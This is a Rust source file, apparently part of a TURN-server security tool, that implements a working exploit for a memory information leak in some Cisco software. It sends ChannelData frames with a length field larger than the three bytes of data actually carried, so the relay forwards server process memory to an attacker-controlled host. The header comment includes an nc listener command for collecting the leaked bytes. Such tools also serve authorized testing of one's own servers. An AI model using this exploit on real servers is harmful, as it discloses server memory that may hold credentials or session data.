/**
 * The memoryleak subcommand: exploits a memory information leak in some
 * Cisco software. A relay that also forwards UDP to external hosts is used
 * to receive the data: the ChannelData length field is set to an arbitrary
 * value the server does not check against the three bytes actually sent,
 * so the server leaks that much process memory to the target.
 *
 * Receive it with something like:
 *   sudo nc -u -l -n -v -p 8080 | hexdump -C
 */
use std::net::IpAddr;

use slog::{debug, info};
use tokio::time::{sleep, Duration};
use tokio_util::sync::CancellationToken;

use crate::commands::{validate_credentials, validate_turn_server};
use crate::errors::{Error, Result};
use crate::net::Protocol;
use crate::stun::channel::random_channel_number;
use crate::stun::requests::channel_bind_request;
use crate::stun::{pad, Class};
use crate::turn::{send_and_receive, setup_udp_allocation};
use crate::Context;

pub struct MemoryLeakOpts {
    pub turn_server: String,
    pub protocol: Protocol,
    pub use_tls: bool,
    pub timeout: Duration,
    pub username: String,
    pub password: String,
    pub target_host: IpAddr,
    pub target_port: u16,
    pub size: u16,
}

impl MemoryLeakOpts {
    pub fn validate(&self) -> Result<()> {
        validate_turn_server(&self.turn_server)?;
        validate_credentials(&self.username, &self.password)?;
        if self.target_port == 0 {
            return Err(Error::Config("please supply a valid target port".to_string()));
        }
        if self.size == 0 {
            return Err(Error::Config("please supply a valid size".to_string()));
        }
        Ok(())
    }
}

pub async fn run(ctx: &Context, opts: MemoryLeakOpts, cancel: &CancellationToken) -> Result<()> {
    opts.validate()?;

    let (mut remote, realm, nonce) = setup_udp_allocation(
        &ctx.logger,
        opts.protocol,
        &opts.turn_server,
        opts.use_tls,
        opts.timeout,
        opts.target_host,
        opts.target_port,
        &opts.username,
        &opts.password,
        cancel,
    )
    .await?;

    let channel = random_channel_number();
    let request = channel_bind_request(
        &opts.username,
        &opts.password,
        &nonce,
        &realm,
        opts.target_host,
        opts.target_port,
        channel,
    );
    debug!(ctx.logger, "ChannelBind Request:\n{}", request);
    let response = send_and_receive(&ctx.logger, &mut remote, &request, opts.timeout, cancel).await?;
    debug!(ctx.logger, "ChannelBind Response:\n{}", response);
    if response.header.message_type.class == Class::Error {
        return Err(response.server_error());
    }

    for i in 0..1000u32 {
        // channel, the mis-declared length, and a three byte payload
        let mut frame = Vec::with_capacity(12);
        frame.extend_from_slice(&channel);
        frame.extend_from_slice(&opts.size.to_be_bytes());
        frame.extend_from_slice(b"xxx");
        let frame = pad(frame);
        remote.write_data(&frame, opts.timeout, cancel).await?;
        info!(ctx.logger, "{}", i);

        tokio::select! {
            _ = cancel.cancelled() => return Err(Error::Cancelled),
            _ = sleep(Duration::from_millis(500)) => {}
        }
    }

    remote.close().await;
    info!(ctx.logger, "DONE");
    Ok(())
}
